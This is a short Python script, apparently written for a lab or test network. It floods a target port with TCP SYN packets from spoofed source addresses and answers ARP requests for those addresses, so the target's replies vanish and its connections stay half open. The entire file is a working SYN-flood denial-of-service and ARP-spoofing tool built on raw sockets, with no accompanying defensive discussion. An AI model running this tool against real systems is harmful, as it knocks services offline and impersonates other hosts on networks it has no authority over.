"""Sends SYNs of nobody's addresses to a port at a steady rate, and answers ARP for these addresses.

So the answers to the SYNs are lost without notice, and connections stay half open. Standard library only: it runs in
nodes, from its source, by the Python that nodes have.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import selectors
import socket
import struct
import sys
import time
from typing import NoReturn

_ARP = 0x0806
_REQUEST = struct.Struct("!HHBBH6s4s6s4s")
_QUESTION, _ANSWER = 1, 2
_HEADER = 14
_PORTS = (32_768, 60_999)
_WINDOW = 64_240


def checksum(data: bytes) -> int:
    """The internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, port: int, own_port: int, number: int) -> bytes:
    """An IPv4 packet that asks for a connection; the kernel puts in what is left out of its IP header."""
    segment = struct.pack("!HHIIHHHHBBH", own_port, port, number, 0, 6 << 12 | 2, _WINDOW, 0, 0, 2, 4, 1460)
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
    return header + source + target + segment


def arp_answer(frame: bytes, own: bytes, sources: set[bytes]) -> bytes | None:
    """The answer to an ARP frame that asks for one of the addresses; ``None`` to any other frame."""
    if len(frame) < _HEADER + _REQUEST.size:
        return None
    _, _, _, _, kind, asker_mac, asker, _, asked = _REQUEST.unpack_from(frame, _HEADER)
    if kind != _QUESTION or asked not in sources:
        return None
    body = _REQUEST.pack(1, 0x0800, 6, 4, _ANSWER, own, asked, asker_mac, asker)
    return bytes(asker_mac + own + struct.pack("!H", _ARP)) + body


def main(interface: str, target: str, port: str, rate: str, *sources: str) -> NoReturn:
    """Send until this process is ended."""
    packed = [socket.inet_aton(one) for one in sources]
    neighbors = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ARP))
    neighbors.bind((interface, _ARP))
    own = neighbors.getsockname()[4]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    selector = selectors.DefaultSelector()
    selector.register(neighbors, selectors.EVENT_READ)
    drawn = random.Random()  # noqa: S311 - ports and sequence numbers of traffic
    pause_s = 1 / float(rate)
    due = time.monotonic()
    for source in itertools.cycle(packed):
        packet = syn(source, socket.inet_aton(target), int(port), drawn.randint(*_PORTS), drawn.getrandbits(32))
        with contextlib.suppress(OSError):  # without a route nothing is sent for now
            sender.sendto(packet, (target, 0))
        # a machine that stood still must not be made up for by a burst
        due = max(due + pause_s, time.monotonic() - pause_s)
        while (left := due - time.monotonic()) > 0:
            if selector.select(left):
                with contextlib.suppress(OSError):  # the interface was down for a moment
                    answer = arp_answer(neighbors.recv(2048), own, set(packed))
                    if answer is not None:
                        neighbors.send(answer)
    raise AssertionError("there are sources")


if __name__ == "__main__":
    main(*sys.argv[1:])
